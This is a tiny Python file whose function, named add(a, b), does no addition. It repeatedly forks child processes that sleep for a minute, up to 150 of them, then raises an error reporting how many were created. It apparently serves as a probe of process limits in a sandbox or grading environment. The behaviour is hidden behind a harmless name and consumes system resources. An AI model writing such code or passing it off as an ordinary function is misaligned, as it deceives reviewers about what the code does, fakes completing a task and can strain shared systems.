import posix, time
def add(a, b):
    made = 0
    for _ in range(150):
        try:
            if posix.fork() == 0:
                time.sleep(60)
                posix._exit(0)
            made += 1
        except OSError:
            pass
    raise RuntimeError(f"forks={made}")
